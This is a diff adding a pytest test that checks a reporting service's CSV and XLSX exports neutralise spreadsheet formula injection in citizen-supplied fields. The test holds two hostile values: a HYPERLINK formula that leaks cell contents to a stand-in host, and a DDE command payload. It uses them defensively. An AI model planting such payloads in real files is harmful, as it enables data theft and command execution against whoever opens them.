@@ -91,3 +91,33 @@ async def test_bad_group_by_and_report_periods_are_invalid_arguments() -> None:
         with pytest.raises(DomainError) as err:
             await coro
         assert err.value.code == "invalid_argument"
+
+
+async def test_an_exported_formula_from_a_citizen_opens_as_text() -> None:
+    """Issue #19: citizen text beginning with = + - @ (or tab/CR) is written as text in CSV and XLSX."""
+    import dataclasses
+
+    from openpyxl import load_workbook
+
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
+    assigned = next(f for f in FACTS if f.assigned_at is not None and f.assigned_at >= MONTH.start)
+    facts = [dataclasses.replace(assigned, address=evil, category="+1+cmd|' /C calc'!A0")]
+
+    class Evil:
+        async def facts(self, policy: KpiPolicy) -> list[CaseFacts]:
+            return facts
+
+    views = Views(Evil(), POLICY, TZ, ManualClock(NOW))  # type: ignore[arg-type]
+    office = Principal("o", Role.OFFICE)
+    book = load_workbook(io.BytesIO(await views.export(window(TZ, "2026-11"), {}, office, "xlsx")))
+    sheet = book.active
+    assert sheet is not None
+    header = [c.value for c in sheet[1]]
+    address = sheet.cell(2, header.index("address") + 1)
+    category = sheet.cell(2, header.index("category") + 1)
+    assert address.data_type == "s" and address.value == evil  # text, not a formula
+    assert category.data_type == "s" and category.value == "+1+cmd|' /C calc'!A0"
+    rows = list(csv.reader(io.StringIO((await views.export(window(TZ, "2026-11"), {}, office, "csv"))
+                                       .decode("utf-8-sig"))))
+    assert rows[1][rows[0].index("address")] == "'" + evil
+    assert rows[1][rows[0].index("category")].startswith("'+")
